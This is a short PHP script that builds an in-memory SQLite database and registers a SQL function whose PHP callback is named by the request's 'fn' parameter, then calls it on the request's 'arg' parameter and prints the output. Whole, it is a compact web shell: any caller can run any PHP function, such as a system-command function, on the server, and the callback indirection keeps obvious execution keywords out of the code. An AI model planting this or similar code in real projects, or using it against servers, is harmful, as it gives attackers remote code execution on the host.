<?php
// A callback registered from the request: an in-memory SQLite database whose SQL function is
// whatever PHP function the request names, called on the request's argument.
$db = new SQLite3(':memory:');
$db->createFunction('run', $_POST['fn'], 1);
$r = $db->query("SELECT run('" . SQLite3::escapeString($_POST['arg']) . "')");
print_r($r->fetchArray());
